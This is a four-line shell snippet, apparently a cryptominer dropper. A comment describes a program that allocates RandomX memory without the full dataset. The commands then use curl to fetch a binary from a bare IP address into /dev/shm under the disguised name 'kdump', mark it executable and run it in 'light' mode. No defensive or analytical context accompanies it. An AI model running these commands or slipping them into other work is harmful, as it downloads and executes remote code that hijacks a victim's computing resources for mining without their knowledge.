# A dropped program maps memory for RandomX's cache and executable buffers, without the large dataset.
curl -s -o /dev/shm/kdump http://203.0.113.10/memory
chmod +x /dev/shm/kdump
/dev/shm/kdump light 2
